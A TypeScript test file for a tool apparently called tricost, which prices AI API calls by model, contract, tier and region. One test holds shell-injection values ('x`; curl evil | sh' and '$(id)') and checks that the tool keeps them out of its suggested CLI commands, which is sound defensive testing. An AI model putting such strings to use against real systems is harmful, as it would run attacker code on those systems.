/** Which row of a list is the price of a call: names, contracts, regions. */
import { describe, expect, test } from 'vitest';
import { explain } from '../../../domain/explain-call/explain.ts';
import { formatPicoUsd, parseDecimal } from '../../../domain/money.ts';
import { builtInPrices } from '../../../domain/pricing/built-in-prices.ts';
import { PriceBook } from '../../../domain/pricing/price-book.ts';
import { priceCall } from '../../../domain/pricing/price-call.ts';
import { type ModelName, type PriceRow, SINCE_EVER } from '../../../domain/pricing/price-list.ts';
import type { StoredCall } from '../../../domain/pricing/stored-call.ts';
import { whyUnpriced } from '../../../domain/pricing/why-unpriced.ts';
import { USAGE_KEYS } from '../../../domain/usage/usage.ts';

const AT = new Date('2026-11-23T13:00:00Z');

let rows = 0;

function price(
  model: string,
  unit: PriceRow['unit'],
  priceUsd: string | null,
  more: Partial<PriceRow> = {},
): PriceRow {
  rows += 1;
  return {
    ...{ id: rows, kind: 'list', provider: 'acme', model, unit, serviceTier: 'standard' },
    ...{ region: '', aboveInputTokens: 0, fromMinute: 0, untilMinute: 1_440, revision: 1 },
    ...{ validFrom: SINCE_EVER, priceUsd, source: 'a test', ...more },
  };
}

const contract = (
  model: string,
  unit: PriceRow['unit'],
  priceUsd: string | null,
  more: Partial<PriceRow> = {},
) => price(model, unit, priceUsd, { kind: 'contracted', ...more });

function name(from: string, to: string, more: Partial<ModelName> = {}): ModelName {
  return {
    ...{ provider: 'acme', name: from, match: 'exact', modelProvider: 'acme', model: to },
    ...{ priceStatus: 'priced', validFrom: SINCE_EVER, source: 'a test', ...more },
  };
}

const BATCH = { serviceTier: 'batch' } as const;
const LISTED = [price('listed', 'input', '10'), price('listed', 'output', '20')];
const USAGE = { input_tokens: 1_000_000, output_tokens: 1_000_000 };

function costs(book: PriceBook, model: string, more: object = {}): string {
  const call = { provider: 'acme', model, at: AT, usage: USAGE, ...more };
  const priced = priceCall(book, call);
  if (priced.priceStatus === 'unpriced') return priced.reason;
  return `${Number(formatPicoUsd(priced.cost))} ${priced.priceStatus}`;
}

describe('a contract on a model as named', () => {
  const CONTRACT = [contract('called', 'input', '1'), contract('called', 'output', '2')];

  test('goes on holding when a release lists the model as a name of another', () => {
    const before = new PriceBook({ prices: [...LISTED, ...CONTRACT], names: [] });
    const names = [name('called', 'listed')];
    const after = new PriceBook({ prices: [...LISTED, ...CONTRACT], names });
    expect(costs(before, 'called')).toBe('3 priced');
    expect(costs(after, 'called')).toBe('3 priced');
    expect(costs(after, 'called-2026-01-01')).toBe('3 priced');
    expect(costs(after, 'listed')).toBe('30 priced');
  });

  test('goes before a contract on the model that the name leads to', () => {
    const prices = [...LISTED, contract('called', 'input', '1'), contract('listed', 'input', '5')];
    const book = new PriceBook({ prices, names: [name('called', 'listed')] });
    expect(costs(book, 'called')).toBe('21 priced');
    expect(costs(book, 'listed')).toBe('25 priced');
  });

  test('has the listed price where it has none of its own: another unit, before it began, once it ended', () => {
    const since = { validFrom: '2026-06-01T00:00:00Z' };
    const prices = [
      ...LISTED,
      contract('called', 'input', '1', since),
      contract('called', 'input', null, { validFrom: '2026-12-01T00:00:00Z' }),
    ];
    const book = new PriceBook({ prices, names: [name('called', 'listed')] });
    expect(costs(book, 'called')).toBe('21 priced');
    expect(costs(book, 'called', { at: new Date('2026-05-31T00:00:00Z') })).toBe('30 priced');
    expect(costs(book, 'called', { at: new Date('2026-12-01T00:00:00Z') })).toBe('30 priced');
  });

  test('is inferred only where a price of the other model is in the sum', () => {
    const family = { match: 'family', modelProvider: 'acme', priceStatus: 'inferred' } as const;
    const names = [name('', '', { ...family, provider: 'reseller' })];
    const sold = { provider: 'reseller' };
    const input = contract('listed', 'input', '1', sold);
    const one = new PriceBook({ prices: [...LISTED, input], names });
    expect(costs(one, 'listed', sold)).toBe('21 inferred');
    const both = [input, contract('listed', 'output', '2', sold)];
    expect(costs(new PriceBook({ prices: [...LISTED, ...both], names }), 'listed', sold)).toBe(
      '3 priced',
    );
  });

  test('says nothing of a snapshot that the list has prices for', () => {
    const snapshot = ['input', 'output'].map((unit) =>
      price('called-2026-01-01', unit as PriceRow['unit'], '100'),
    );
    const book = new PriceBook({ prices: [...LISTED, ...CONTRACT, ...snapshot], names: [] });
    expect(costs(book, 'called-2026-01-01')).toBe('200 priced');
  });

  test('adds up, told of a stored call', () => {
    const prices = [...LISTED, contract('called', 'input', '1')];
    const book = new PriceBook({ prices, names: [name('called', 'listed')] });
    const unknown = Object.fromEntries(USAGE_KEYS.map((key) => [key, null]));
    for (const model of ['called', 'called-2026-01-01']) {
      const call = {
        ...{ ...unknown, ...USAGE, ts: AT, provider: 'acme', model, service_tier: null },
        ...{ region: null, batch: null, usage_raw: null, flags: [], computed_cost_usd: null },
        ...{ cost_usd: '21.000000000000', price_status: 'priced', price_ids: [] },
      } as unknown as StoredCall;
      const used = prices.filter(({ kind, unit }) => kind === 'contracted' || unit === 'output');
      expect(explain(call, used, book)).toMatchObject({ agrees: true, isOutdated: false });
    }
  });
});

describe('a model whose prices begin on a date', () => {
  const since = { validFrom: '2026-06-01T00:00:00Z' };
  const before = { at: new Date('2026-05-31T23:59:59Z') };

  test('is what its shorter name says until then, as if the list did not have it', () => {
    const prices = [...LISTED, price('listed-2026-01-01', 'input', '1', since)];
    const book = new PriceBook({ prices, names: [] });
    expect(costs(book, 'listed-2026-01-01', before)).toBe('30 priced');
    const input = { usage: { input_tokens: 1_000_000 } };
    expect(costs(book, 'listed-2026-01-01', input)).toBe('1 priced');
  });

  test('is what a family leads to until then', () => {
    const family = name('', '', { provider: 'shop', match: 'family', priceStatus: 'inferred' });
    const own = price('listed', 'input', '1', { ...since, provider: 'shop' });
    const book = new PriceBook({ prices: [...LISTED, own], names: [family] });
    expect(costs(book, 'listed', { ...before, provider: 'shop' })).toBe('30 inferred');
    const input = { usage: { input_tokens: 1_000_000 } };
    expect(costs(book, 'listed', { ...input, provider: 'shop' })).toBe('1 priced');
  });

  test('has no price from the day on which it is withdrawn: not that of another', () => {
    const ended = price('listed-2026-01-01', 'input', null, since);
    const prices = [...LISTED, price('listed-2026-01-01', 'input', '1'), ended];
    expect(costs(new PriceBook({ prices, names: [] }), 'listed-2026-01-01')).toBe('model_unlisted');
  });
});

describe('a size that has a price in one tier', () => {
  const prices = [
    price('sized', 'input', '10'),
    price('sized', 'input', '20', { aboveInputTokens: 1_000_000 }),
    price('sized', 'input', '5', { serviceTier: 'batch' }),
  ];
  const batch = (input_tokens: number, more: object = {}) => ({
    usage: { input_tokens: input_tokens * 1_000_000 },
    batch: true,
    ...more,
  });

  test('is not priced as a smaller one in another', () => {
    const book = new PriceBook({ prices, names: [] });
    expect(costs(book, 'sized', batch(1))).toBe('5 priced');
    expect(costs(book, 'sized', batch(2))).toBe('unit_unlisted');
    expect(costs(book, 'sized', batch(2, { batch: false }))).toBe('40 priced');
    const call = { provider: 'acme', model: 'sized', at: AT, ...batch(2) };
    const priced = priceCall(book, call);
    if (priced.priceStatus !== 'unpriced') throw new Error('priced');
    expect(whyUnpriced(priced, call, book.prices())).toEqual({
      what: 'acme sized has no price for input in the tier standard, in a batch for calls with more than 1000000 tokens of input',
      toDo: 'enter it with `tricost prices set --provider acme --model sized --unit input --tier batch --above 1000000`, beside the price of smaller ones',
    });
  });

  test('does not bound a contract, which says its own', () => {
    const own = contract('sized', 'input', '3', { serviceTier: 'batch' });
    const book = new PriceBook({ prices: [...prices, own], names: [] });
    expect(costs(book, 'sized', batch(2))).toBe('6 priced');
  });
});

describe('a region', () => {
  const us = { region: 'us' };
  const apart = [price('old', 'input', '11', us), price('old', 'output', '22', us)];

  test('that a provider prices apart is never at the price of no region', () => {
    const book = new PriceBook({ prices: [...LISTED, ...apart], names: [] });
    expect(costs(book, 'old', us)).toBe('33 priced');
    expect(costs(book, 'old', { region: 'US' })).toBe('33 priced');
    expect(costs(book, 'listed')).toBe('30 priced');
    expect(costs(book, 'listed', { region: 'global' })).toBe('30 priced');
    expect(costs(book, 'listed', us)).toBe('region_unlisted');
    expect(costs(book, 'old', { region: 'eu' })).toBe('region_unlisted');
    expect(costs(book, 'old')).toBe('region_unlisted');
  });

  test('has a price unit by unit: what is missing is not taken from elsewhere', () => {
    const input = price('listed', 'input', '11', us);
    const book = new PriceBook({ prices: [...LISTED, ...apart, input], names: [] });
    expect(costs(book, 'listed', us)).toBe('unit_unlisted');
    const call = { provider: 'acme', model: 'listed', at: AT, usage: USAGE, ...us };
    const priced = priceCall(book, call);
    if (priced.priceStatus !== 'unpriced') throw new Error('priced');
    expect(whyUnpriced(priced, call, book.prices())).toEqual({
      what: 'acme listed has no price for output in the tier standard and the region us',
      toDo: 'enter it with `tricost prices set --provider acme --model listed --unit output --tier standard --region us`',
    });
  });

  test('that is more than a word is in no command to paste', () => {
    const book = new PriceBook({ prices: [...LISTED, ...apart], names: [] });
    const hostile = { region: 'x`; curl evil | sh', model: 'listed' };
    const call = { provider: 'acme', at: AT, usage: USAGE, ...hostile };
    const why = whyUnpriced(
      { priceStatus: 'unpriced', reason: 'region_unlisted' },
      { ...call, model: '$(id)' },
      book.prices(),
    );
    expect(why.toDo).toContain('--provider acme --model <model> --region <region> --tier');
    const unit = whyUnpriced(
      { priceStatus: 'unpriced', reason: 'unit_unlisted', unit: 'output' },
      call,
      book.prices(),
    );
    expect(unit.toDo).toContain('--model listed --unit output --tier standard --region <region>');
  });

  test('is no matter where the provider prices none apart, whatever a contract does', () => {
    const book = new PriceBook({
      prices: [...LISTED, contract('other', 'input', '1', us)],
      names: [],
    });
    expect(costs(book, 'listed', us)).toBe('30 priced');
  });

  test('has the price of every region where it has none of its own', () => {
    const every = ['input', 'output'].map((unit) =>
      price('new', unit as PriceRow['unit'], '12', { region: '*' }),
    );
    const base = [price('new', 'input', '10'), price('new', 'output', '10')];
    const own = [price('new', 'input', '15', us), price('new', 'output', '15', us)];
    const prices = [...LISTED, ...base, ...every, ...own];
    const book = new PriceBook({ prices, names: [] });
    expect(costs(book, 'new', { region: 'eu' })).toBe('24 priced');
    expect(costs(book, 'new', us)).toBe('30 priced');
    for (const region of [undefined, '', 'global', 'not_available']) {
      expect(costs(book, 'new', { region })).toBe('20 priced');
    }
    // Nobody said what `listed` costs there.
    expect(costs(book, 'listed', { region: 'eu' })).toBe('region_unlisted');
    const contracted = contract('listed', 'input', '1', { region: '*' });
    const entered = new PriceBook({ prices: [...LISTED, contracted], names: [] });
    expect(costs(entered, 'listed', { region: 'eu' })).toBe('21 priced');
    expect(costs(entered, 'listed')).toBe('30 priced');
  });

  test('of the provider that made a model is not one of another that sells it', () => {
    const every = [
      price('new', 'input', '12', { region: '*' }),
      price('new', 'output', '12', { region: '*' }),
    ];
    const base = [price('new', 'input', '10'), price('new', 'output', '10')];
    const family = name('', '', { provider: 'shop', match: 'family', priceStatus: 'inferred' });
    const book = new PriceBook({ prices: [...base, ...every], names: [family] });
    expect(costs(book, 'new', { provider: 'shop' })).toBe('20 inferred');
    expect(costs(book, 'new', { provider: 'shop', region: 'eu' })).toBe('region_unlisted');
  });

  test('without a price says what to enter', () => {
    const book = new PriceBook({ prices: [...LISTED, ...apart], names: [] });
    const call = { provider: 'acme', model: 'listed', at: AT, usage: USAGE, ...us };
    const priced = priceCall(book, call);
    if (priced.priceStatus !== 'unpriced') throw new Error('priced');
    expect(whyUnpriced(priced, call, book.prices())).toEqual({
      what: expect.stringContaining('acme listed has no price in the region us'),
      toDo: expect.stringContaining(
        '`tricost prices set --provider acme --model listed --region us --tier standard`',
      ),
    });
    const entered = ['input', 'output'].map((unit) =>
      contract('listed', unit as PriceRow['unit'], '11', us),
    );
    const prices = [...LISTED, ...apart, ...entered];
    expect(costs(new PriceBook({ prices, names: [] }), 'listed', us)).toBe('22 priced');
  });
});

describe('a contract that names no region', () => {
  const { prices, names } = builtInPrices();
  const of = (provider: string, model: string, unit: PriceRow['unit'], usd: string) =>
    contract(model, unit, usd, { provider });
  const book = (...contracts: PriceRow[]) =>
    new PriceBook({ prices: [...prices, ...contracts], names });
  const eu = { region: 'eu', usage: { input_tokens: 100_000, output_tokens: 0 } };

  test('goes before the price of every region, which would make it end where a call says where it was', () => {
    const entered = book(of('openai', 'gpt-5.5', 'input', '1'));
    expect(costs(entered, 'gpt-5.5', { ...eu, provider: 'openai' })).toBe('0.1 priced');
    const output = { ...eu, usage: { input_tokens: 100_000, output_tokens: 100_000 } };
    // Without one, output has OpenAI's price there: 100,000 × $33 a million.
    expect(costs(entered, 'gpt-5.5', { ...output, provider: 'openai' })).toBe('3.4 priced');
    const there = contract('gpt-5.5', 'input', '2', { provider: 'openai', region: '*' });
    expect(
      costs(book(of('openai', 'gpt-5.5', 'input', '1'), there), 'gpt-5.5', {
        ...eu,
        provider: 'openai',
      }),
    ).toBe('0.2 priced');
  });

  test('holds in any region on a name that nobody else has prices for', () => {
    const deployment = [
      of('azure', 'team-gpt', 'input', '1'),
      of('azure', 'team-gpt', 'output', '2'),
    ];
    const azure = { ...eu, provider: 'azure' };
    expect(costs(book(...deployment), 'team-gpt', azure)).toBe('0.1 priced');
    // Also where the name leads to a model whose list has the region.
    const to = name('team-gpt', 'claude-opus-5', {
      ...{ provider: 'azure', modelProvider: 'anthropic', priceStatus: 'inferred' },
    });
    const named = new PriceBook({ prices: [...prices, ...deployment], names: [...names, to] });
    expect(costs(named, 'team-gpt', { ...azure, region: 'us' })).toBe('0.1 priced');
    const tuned = of('openai', 'ft:gpt-4.1:acme', 'input', '3');
    expect(costs(book(tuned), 'ft:gpt-4.1:acme', { ...eu, provider: 'openai' })).toBe('0.3 priced');
  });

  test('holds under a name of its own after the contract of the led model that names the region', () => {
    const to = name('team-gpt', 'gpt-5.5', {
      ...{ provider: 'azure', modelProvider: 'openai', priceStatus: 'inferred' },
    });
    const there = contract('gpt-5.5', 'input', '4', { provider: 'openai', region: 'eu' });
    const contracts = [of('azure', 'team-gpt', 'input', '1'), there];
    const entered = new PriceBook({ prices: [...prices, ...contracts], names: [...names, to] });
    const azure = { ...eu, provider: 'azure' };
    expect(costs(entered, 'team-gpt', azure)).toBe('0.4 inferred');
    expect(costs(entered, 'team-gpt', { ...azure, region: 'us' })).toBe('0.1 priced');
    const own = contract('team-gpt', 'input', '2', { provider: 'azure', region: 'eu' });
    const both = new PriceBook({
      ...{ prices: [...prices, ...contracts, own], names: [...names, to] },
    });
    expect(costs(both, 'team-gpt', azure)).toBe('0.2 priced');
  });

  test.each(['claude-opus-4-6-20260205', 'claude-sonnet-4.6'])(
    'does not reach it under another name of the model either: %s',
    (model) => {
      const entered = book(of('anthropic', model, 'input', '1'));
      const claude = { ...eu, provider: 'anthropic', region: 'us' };
      expect(costs(entered, model, claude)).toBe(costs(book(), model, claude));
      expect(costs(entered, model, { ...claude, region: '' })).toBe('0.1 priced');
    },
  );

  test('on a name of nobody else reaches every region until the list has prices of the name, and not one call less', () => {
    const since = '2026-11-20T00:00:00Z';
    const mine = [
      contract('claude-opus-9', 'input', '1', { provider: 'anthropic' }),
      contract('claude-opus-9', 'output', '2', { provider: 'anthropic' }),
    ];
    const listed = price('claude-opus-9', 'input', '50', {
      ...{ provider: 'anthropic', validFrom: since },
    });
    const claude = { ...eu, provider: 'anthropic', region: 'us' };
    const at = (instant: string) => ({ ...claude, at: new Date(instant) });
    const after = book(...mine, listed);
    expect(costs(after, 'claude-opus-9', at('2026-11-19T23:59:59Z'))).toBe('0.1 priced');
    // From then on the name is a model of Anthropic's, which prices `us` apart: the contract does not say what it costs there.
    expect(costs(after, 'claude-opus-9', at(since))).toBe('region_unlisted');
    const there = { provider: 'anthropic', validFrom: since, region: 'us' };
    const named = book(...mine, listed, price('claude-opus-9', 'input', '55', there));
    expect(costs(named, 'claude-opus-9', at('2026-11-19T23:59:59Z'))).toBe('0.1 priced');
    expect(costs(named, 'claude-opus-9', at(since))).toBe('5.5 priced');
  });

  test('does not reach a region that the provider names and prices', () => {
    const claude = { ...eu, provider: 'anthropic', region: 'us' };
    const entered = book(of('anthropic', 'claude-opus-5', 'input', '1'));
    // 100,000 × $5.50 a million.
    expect(costs(entered, 'claude-opus-5', claude)).toBe('0.55 priced');
    expect(costs(entered, 'claude-opus-5', { ...claude, region: 'global' })).toBe('0.1 priced');
  });
});

test('the command for a price of a region says where the name has no prices of its own', () => {
  const { prices } = builtInPrices();
  const toDo = (provider: string, model: string) =>
    whyUnpriced(
      { priceStatus: 'unpriced', reason: 'region_unlisted' },
      { provider, model, region: 'eu' },
      prices,
    ).toDo;
  expect(toDo('azure', 'gpt-5.5')).toContain('--region eu --tier standard --new-model`');
  expect(toDo('azure.ai.openai', 'GPT-5.5')).toContain('--new-model');
  expect(toDo('openai', 'gpt-5.3')).not.toContain('--new-model');
});

test('a new Claude that was served in the US is unpriced until its price there is entered', () => {
  const { prices, names } = builtInPrices();
  const listed = prices.filter(({ model, region }) => model === 'claude-opus-5' && region === '');
  const next = listed.map((row) => ({ ...row, model: 'claude-opus-6' }));
  const book = new PriceBook({ prices: [...prices, ...next], names });
  const claude = { provider: 'anthropic', region: 'us' };
  expect(costs(book, 'claude-opus-5', claude)).toBe('33 priced');
  expect(costs(book, 'claude-opus-6', claude)).toBe('region_unlisted');
  expect(costs(book, 'claude-opus-6', { provider: 'anthropic' })).toBe('30 priced');
});

describe('models of OpenAI in a region', () => {
  const list = builtInPrices();
  const models = [
    ...new Set(list.prices.filter((row) => row.provider === 'openai').map((row) => row.model)),
  ];
  const openai = { provider: 'openai', serviceTier: 'standard', region: 'eu', at: AT } as const;
  const listed = new PriceBook(list);
  const regions = (model: string) => {
    const rates = listed.ratesFor({ ...openai, model });
    return typeof rates === 'string'
      ? rates
      : [...new Set([...rates.units.values()].flat().map(({ row }) => row.region))].join();
  };

  test('have the price of every region, one price everywhere, or none', () => {
    const by = Map.groupBy(models, regions);
    expect([...by.keys()].sort()).toEqual(['', '*', 'region_unlisted']);
    expect(by.get('*')).toEqual([
      ...['gpt-5.4', 'gpt-5.4-mini', 'gpt-5.4-nano', 'gpt-5.4-pro', 'gpt-5.5', 'gpt-5.5-pro'],
      ...['gpt-5.6-luna', 'gpt-5.6-sol', 'gpt-5.6-terra', 'gpt-6-astra', 'gpt-6-luna', 'gpt-6-sol'],
    ]);
    // Newer, not sold by OpenAI, or a name of models from before and after.
    expect(by.get('region_unlisted')).toEqual([
      ...['gpt-4o:extended', 'gpt-5-image', 'gpt-5-image-mini', 'gpt-5.3', 'gpt-5.4-image-2'],
      ...['gpt-chat-latest', 'gpt-image-2', 'gpt-oss-120b', 'gpt-oss-20b'],
      ...['gpt-oss-safeguard-20b', 'gpt-realtime-2'],
    ]);
    // Tuned from older ones, by the names that OpenAI gives them.
    for (const model of ['ft:gpt-4o', 'ft:gpt-3.5-turbo', 'gpt-realtime-mini-2025-12-15']) {
      expect(regions(model)).toBe('');
    }
    expect(regions('gpt-realtime-2.1-mini')).toBe('region_unlisted');
  });

  test('cost a tenth more for every price of theirs, to the last digit', () => {
    const since = '2026-03-05T00:00:00Z';
    const from = ({ validFrom }: PriceRow) => (validFrom < since ? since : validFrom);
    const key = (row: PriceRow) =>
      JSON.stringify({ ...row, id: 0, region: '', validFrom: from(row), priceUsd: '', source: '' });
    const base = new Map(
      list.prices.filter((row) => row.region === '').map((row) => [key(row), row]),
    );
    const every = list.prices.filter((row) => row.region === '*');
    expect(every.length).toBeGreaterThan(200);
    for (const row of every) {
      const of = parseDecimal(base.get(key(row))?.priceUsd ?? '');
      const here = parseDecimal(row.priceUsd ?? '');
      if (of === undefined || here === undefined) throw new Error(`no price: ${key(row)}`);
      expect(here.digits * 10n ** BigInt(of.scale) * 10n).toBe(
        of.digits * 10n ** BigInt(here.scale) * 11n,
      );
      expect(row.source).toBe('https://developers.openai.com/api/docs/guides/data-residency');
      expect(row.validFrom).toBe(from(row));
    }
  });

  test('cost what they cost everywhere until OpenAI priced a region apart', () => {
    const book = new PriceBook(list);
    const call = { provider: 'openai', region: 'eu', usage: { input_tokens: 1_000_000 } };
    // A model of one price everywhere, and one that has no price in a region since.
    for (const model of ['gpt-4.1-mini', 'gpt-5.3']) {
      const at = new Date('2026-03-04T23:59:59Z');
      expect(costs(book, model, { ...call, at })).toBe(
        costs(book, model, { ...call, at, region: '' }),
      );
    }
    const at = new Date('2026-03-05T00:00:00Z');
    expect(costs(book, 'gpt-5.3', { ...call, at })).toBe('region_unlisted');
  });

  test('of a name or snapshot that is newer than an older model, and has its prices, have none', () => {
    const names = ['gpt-realtime-3-mini', 'gpt-4o-turbo'].map((from, index) =>
      name(from, ['gpt-realtime-mini', 'gpt-4o'][index] ?? '', {
        ...{ provider: 'openai', modelProvider: 'openai' },
      }),
    );
    const book = new PriceBook({ ...list, names: [...list.names, ...names] });
    const cost = (model: string, region: string) =>
      costs(book, model, {
        provider: 'openai',
        region,
        usage: { input_tokens: 1_000_000, output_tokens: 0 },
      });
    for (const { name: model } of names) {
      expect(cost(model, '')).toMatch(/priced$/);
      expect(cost(model, 'eu')).toBe('region_unlisted');
      expect(cost(`${model}-2026-12-01`, 'eu')).toBe('region_unlisted');
    }
    expect(cost('gpt-4o-2026-03-04', 'eu')).toBe('2.5 priced');
    expect(cost('gpt-4o-2026-03-05', 'eu')).toBe('region_unlisted');
    expect(cost('gpt-4o-20261201', 'eu')).toBe('region_unlisted');
  });

  test('of every name that the list has today for a model of one price cost the same there', () => {
    const older = new Set(models.filter((model) => regions(model) === ''));
    const newer = ['ft:gpt-4o-2024-', 'ft:gpt-4o-mini-2024-', 'ft:gpt-4-0', 'gpt-5-nano-'];
    const names = list.names
      .filter(({ provider, model }) => provider === 'openai' && older.has(model))
      .map((named) => named.name);
    expect(names.length).toBeGreaterThan(60);
    // The catalogue's beginnings of names are none; and a newer model that it takes for an older one.
    expect(names.filter((named) => regions(named) !== '').sort()).toEqual(
      [...newer, 'gpt-realtime-2.1-mini'].sort(),
    );
  });

  test('have none on Azure, which prices regions apart, and what somebody gave their prices has what they have', () => {
    const alias = (provider: string) =>
      name('mine', 'gpt-4.1', { provider, modelProvider: 'openai', priceStatus: 'inferred' });
    const book = new PriceBook({
      ...list,
      names: [...list.names, alias('openai'), alias('azure')],
    });
    const cost = (provider: string, model: string, region: string) =>
      costs(book, model, {
        provider,
        region,
        usage: { input_tokens: 1_000_000, output_tokens: 0 },
      });
    for (const model of ['gpt-4.1', 'gpt-4.1-2025-04-14', 'mine']) {
      expect(cost('azure', model, '')).toBe('2 inferred');
      expect(cost('azure', model, 'swedencentral')).toBe('region_unlisted');
    }
    expect(cost('openai', 'mine', 'eu')).toBe('2 inferred');
  });

  test('of a catalogue that tricost has not seen yet have none', () => {
    const next = list.prices
      .filter((row) => row.model === 'gpt-6-sol' && row.region === '')
      .map((row) => ({ ...row, model: 'gpt-7-sol' }));
    const book = new PriceBook({ ...list, prices: [...list.prices, ...next] });
    expect(book.ratesFor({ ...openai, model: 'gpt-7-sol' })).toBe('region_unlisted');
    expect(book.ratesFor({ ...openai, region: '', model: 'gpt-7-sol' })).toMatchObject({
      priceStatus: 'priced',
    });
  });
});

describe('what was tuned from a base', () => {
  const { prices, names } = builtInPrices();
  const BASE = 'ft:gpt-4o-2024-08-06';
  const TUNED = `${BASE}:acme::abc`;
  const NEXT_YEAR = '2027-01-01T00:00:00Z';
  const usage = { input_tokens: 2_000, cache_read_tokens: 1_000, output_tokens: 300 };
  const of = (unit: PriceRow['unit'], usd: string | null, more: Partial<PriceRow> = {}) =>
    contract(BASE, unit, usd, { provider: 'openai', ...more });
  const book = (contracts: PriceRow[], ...aliases: ModelName[]) =>
    new PriceBook({ prices: [...prices, ...contracts], names: [...names, ...aliases] });
  const cost = (entered: PriceBook, model: string, more: object = {}) =>
    costs(entered, model, { provider: 'openai', usage, ...more });
  const usd = (said: string) => said.replace(/ (?:priced|inferred)$/, '');

  test.each<[string, PriceRow[]]>([
    ['none', []],
    ['one of next year', [of('input', '3', { validFrom: NEXT_YEAR })]],
    [
      'one that has ended',
      [of('input', '3'), of('input', null, { validFrom: '2026-11-01T00:00:00Z' })],
    ],
    ['one of input', [of('input', '3')]],
    ['one of everything', [of('input', '3'), of('output', '12'), of('cache_read', '1')]],
    [
      'one of the other form of its name, too',
      [of('input', '3'), of('input', '2', { model: 'ft:gpt-4o' })],
    ],
    ['one of batches', ['input', 'output'].map((u) => of(u as PriceRow['unit'], '2', BATCH))],
    ['one of a region', [of('input', '3', { region: 'eu' })]],
  ])('costs what the base costs, whatever contract the base has: %s', (_, contracts) => {
    const entered = book(contracts);
    for (const batch of [false, true]) {
      for (const region of ['', 'eu']) {
        for (const at of [AT, new Date(NEXT_YEAR)]) {
          const more = { batch, region, at };
          expect(usd(cost(entered, TUNED, more)), JSON.stringify(more)).toBe(
            usd(cost(entered, BASE, more)),
          );
        }
      }
    }
    expect(cost(entered, TUNED)).toMatch(/^[\d.]+ inferred$/);
  });

  test('has its own contract before that of the base', () => {
    const own = of('input', '1', { model: TUNED });
    // 1,000 × $1, 1,000 × $1.875 cached and 300 × $12 a million.
    expect(cost(book([own, of('input', '3'), of('output', '12')]), TUNED)).toBe(
      '0.006475 inferred',
    );
  });

  test('goes on, with a contract on all input of a tier, to pay that for cached input that nobody lists there', () => {
    const ofTuned = (more: Partial<PriceRow> = {}) => [
      of('input', '3', { model: TUNED, ...more }),
      of('output', '12', { model: TUNED, ...more }),
    ];
    // 2,000 × $3 and 300 × $12 a million.
    expect(cost(book(ofTuned(BATCH)), TUNED, { batch: true })).toBe('0.0096 priced');
    // Where the list has one it holds, as of every unit that a contract does not name.
    expect(cost(book(ofTuned()), TUNED)).toBe('0.008475 inferred');
    // Who agreed on cached input, and not in this tier, has no price of it here.
    const cached = of('cache_read', '1', { model: TUNED });
    expect(cost(book([...ofTuned(BATCH), cached]), TUNED, { batch: true })).toBe('unit_unlisted');
  });

  test('in a region is as old as the base', () => {
    const eu = { region: 'eu' };
    expect(cost(book([]), 'ft:gpt-4o-2026-03-04:acme::x', eu)).toBe('0.010125 inferred');
    for (const newer of ['ft:gpt-4o-2026-06-01', 'ft:gpt-4o-2026-06-01:acme::x']) {
      expect(cost(book([]), newer, eu)).toBe('region_unlisted');
    }
  });

  test('does not have the prices of a model that was not tuned, unless somebody says so', () => {
    // The catalogue has names that begin so for GPT-4.
    expect(cost(book([]), 'ft:gpt-4-0:acme::a')).toBe('model_unlisted');
    const to = { provider: 'openai', modelProvider: 'openai', priceStatus: 'inferred' } as const;
    const alias = name('ft:gpt-4-0', 'gpt-4', to);
    const plain = { usage: { input_tokens: 2_000, output_tokens: 0 } };
    expect(cost(book([], alias), 'ft:gpt-4-0:acme::a', plain)).toBe('0.06 inferred');
  });
});

test('a family leads past a contract that is not in force', () => {
  const { prices, names } = builtInPrices();
  const model = 'gpt-4.1-2025-04-14';
  const next = contract(model, 'input', '3', {
    ...{ provider: 'openai', validFrom: '2027-01-01T00:00:00Z' },
  });
  const book = new PriceBook({ prices: [...prices, next], names });
  expect(costs(book, model, { provider: 'azure' })).toBe('10 inferred');
  expect(costs(book, model, { provider: 'azure', at: new Date('2027-01-01') })).toBe('11 inferred');
});
